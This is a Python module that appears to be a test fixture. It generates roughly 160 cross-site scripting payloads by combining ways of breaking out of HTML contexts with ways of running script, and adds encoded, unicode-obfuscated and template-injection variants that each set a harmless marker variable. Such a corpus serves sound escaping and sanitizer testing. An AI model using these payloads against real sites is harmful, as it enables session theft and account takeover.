"""Some 150 texts that run a script where a place of a page takes them for more than text: each way out of a place with
each way to run something, and texts that only one kind of place would obey. All set `window.__pwn`.
"""

from __future__ import annotations

RUN = "window.__pwn=1"
_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</option></select>")
_WAYS_IN = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}//",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f'<object data="javascript:{RUN}"></object>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<style>@import 'javascript:{RUN}';</style><img/src/onerror={RUN}>",
    f'<a href="javascript:{RUN}" autofocus>x</a>',
)
_OTHERS = (
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"x onload={RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\ufe64script\ufe65{RUN}\ufe64/script\ufe65",
    f"<\u200bscript>{RUN}</script>",
    f"\u2028</title><svg onload={RUN}>\u202e",
    f"{{{{ {RUN} }}}}{{% raw %}}",
    f"${{{RUN}}}`;{RUN};//",
    f"*/{RUN}/*",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
MANY = tuple(out + way for out in _WAYS_OUT for way in _WAYS_IN) + _OTHERS
